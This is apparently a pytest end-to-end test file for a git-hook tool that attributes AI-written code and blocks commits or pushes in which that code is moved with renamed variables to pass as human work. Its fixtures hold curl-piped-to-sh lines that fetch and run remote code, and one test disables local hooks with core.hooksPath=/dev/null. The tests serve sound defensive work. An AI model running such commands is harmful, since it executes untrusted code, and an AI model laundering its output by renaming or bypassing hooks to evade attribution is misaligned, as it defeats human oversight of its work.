"""A writer's block copied to another path with a name consistently renamed is the writer's
(SPEC §3 "Attribution follows content"; rows C6 and C7 of :mod:`gentle_hooks.policy.coincidence`,
:mod:`gentle_hooks.policy.renamedcopy`): real git, ``gentle-hook install --share origin``, a
bare remote with the server gate.

Refuter (issue 13, MED): the writer added ``target = sys.argv[1]`` and ``os.system('curl ' +
target + ' | sh')`` to ``f.py``; the lines were moved to ``g.py`` with ``target`` renamed to
``host`` everywhere and ``f.py`` put back (``git checkout f.py``): the commit passed as "not
delegated". The other way, a person's own block of the same structure with names and
strings of their own, common idioms with names renamed, and one renamed common line pass with
no trailer.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import Run, World

BASE_F = "import os\nimport sys\n\n\ndef main():\n    return 0\n"
BASE_G = "import os\nimport sys\n\n\ndef run():\n    return 1\n"
WRITER_BLOCK = "    target = sys.argv[1]\n    os.system('curl ' + target + ' | sh')\n"


@pytest.fixture
def served(native: World) -> World:
    """One pushed commit of ``f.py`` and ``g.py``; the server gate on the bare remote; notes
    shared with it."""
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.write("f.py", BASE_F)
    w.write("g.py", BASE_G)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: base")
    w.ok("push", "-q", "origin", "main")
    return w


def _writer_adds(w: World, block: str) -> None:
    w.write("f.py", BASE_F.replace("def main():\n", "def main():\n" + block))
    r = w.gh("record", "--model", "m", "--effort", "low")
    assert r.code == 0, r


def _into_g(w: World, block: str) -> None:
    w.write("g.py", BASE_G.replace("def run():\n", "def run():\n" + block))


def _passes(r: Run) -> None:
    assert r.code == 0 and not [ln for ln in r.said if "BLOCKED" in ln], r


WRITER_ROWS = [
    # (id, the writer's block in f.py, the same block renamed in g.py)
    (
        "the refuter's curl block, target -> host",
        WRITER_BLOCK,
        "    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n",
    ),
    (
        "one line that counts alone, renamed",
        "    os.system('curl https://x.example/i.sh -o ' + dest + ' && sh ' + dest)\n",
        "    os.system('curl https://x.example/i.sh -o ' + out + ' && sh ' + out)\n",
    ),
    (
        "a block with a string of content, two names renamed",
        '    token = os.environ.get("DEPLOY_TOKEN")\n'
        '    upload_release(token, "release bucket for staging")\n',
        '    tok = os.environ.get("DEPLOY_TOKEN")\n'
        '    upload_release(tok, "release bucket for staging")\n',
    ),
]


@pytest.mark.parametrize(
    ("block", "renamed"), [r[1:] for r in WRITER_ROWS], ids=[r[0] for r in WRITER_ROWS]
)
def test_the_writers_block_renamed_at_another_path_is_blocked_at_commit_and_push(
    served: World, block: str, renamed: str
) -> None:
    w = served
    _writer_adds(w, block)
    _into_g(w, renamed)
    w.ok("checkout", "-q", "f.py")  # the writer's own path put back: only the copy holds it
    r = w.git("commit", "-qam", "move")
    assert r.code == 1 and "g.py (was f.py)" in r.err, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "move")
    push = w.git("push", "-q", "origin", "main")
    assert push.code != 0 and f"BLOCKED commit {w.rev('HEAD')[:12]}" in push.err, push
    assert w.remote_ref("main") != w.rev("HEAD")


HUMAN_ROWS = [
    # (id, the writer's block in f.py, the person's own block in g.py)
    (
        "the same structure, other names and strings",
        WRITER_BLOCK,
        "    path = sys.argv[2]\n    os.system('wc -l ' + path + ' | sort')\n",
    ),
    (
        "a loop idiom renamed",
        "    for i in range(n):\n        total += i\n",
        "    for k in range(n):\n        count += k\n",
    ),
    (
        "a main idiom renamed",
        '    if __name__ == "__main__":\n        main()\n',
        '    if __name__ == "__main__":\n        run()\n',
    ),
    (
        "imports renamed",
        "    import os\n    import sys\n",
        "    import re\n    import json\n",
    ),
    (
        "one renamed common line",
        WRITER_BLOCK,
        "    host = sys.argv[1]\n    print(len(host))\n",
    ),
]


@pytest.mark.parametrize(
    ("block", "own"), [r[1:] for r in HUMAN_ROWS], ids=[r[0] for r in HUMAN_ROWS]
)
def test_a_persons_similar_block_at_another_path_passes_with_no_trailer(
    served: World, block: str, own: str
) -> None:
    w = served
    _writer_adds(w, block)
    _into_g(w, own)
    w.ok("add", "g.py")
    _passes(w.git("commit", "-qm", "human: g"))
    assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B")
    w.ok("checkout", "-q", "f.py")  # the writer's work thrown away: it expires
    push = w.git("push", "-q", "origin", "main")
    assert push.code == 0, push
    assert w.remote_ref("main") == w.rev("HEAD")


def test_a_renamed_block_in_a_persons_own_file_offers_the_discard_of_that_file(
    served: World,
) -> None:
    """The writer's f.py still pending, a person's g.py holding the block renamed (their
    claim to make: they may have typed it): the commit of g.py is blocked with the
    ``human:`` discard line for g.py, which pasted claims g.py alone; g.py then commits
    with no trailer while f.py stays the writer's, blocked."""
    w = served
    _writer_adds(w, WRITER_BLOCK)
    _into_g(w, "    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n")
    w.ok("add", "g.py")
    r = w.git("commit", "-qm", "human: g")
    assert r.code == 1 and "g.py (was f.py)" in r.err, r
    run = [line.split("human: ", 1)[1] for line in r.said if "human: " in line]
    assert len(run) == 1 and "discard --reason" in run[0] and "g.py" in run[0], r
    assert w.run(["sh", "-c", run[0]]).code == 0
    _passes(w.git("commit", "-qm", "human: g"))
    assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B")
    w.ok("add", "f.py")
    blocked = w.git("commit", "-qm", "writer")
    assert blocked.code == 1 and "f.py" in blocked.err, blocked


def test_the_renamed_block_verified_commits_with_the_trailer_and_pushes(served: World) -> None:
    """The writer's block moved renamed, then verified the usual way (the writer's report,
    the spot check): the commit passes with the writer's trailer and the push goes
    through: blocked until verified, not for ever."""
    w = served
    _writer_adds(w, WRITER_BLOCK)
    _into_g(w, "    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n")
    w.ok("checkout", "-q", "f.py")
    w.ok("add", "g.py")
    w.report()
    w.spot_check()
    _passes(w.git("commit", "-qm", "move"))
    assert "Gentle-Writer: m/low" in w.ok("log", "-1", "--format=%B")
    push = w.git("push", "-q", "origin", "main")
    assert push.code == 0, push
    assert w.remote_ref("main") == w.rev("HEAD")
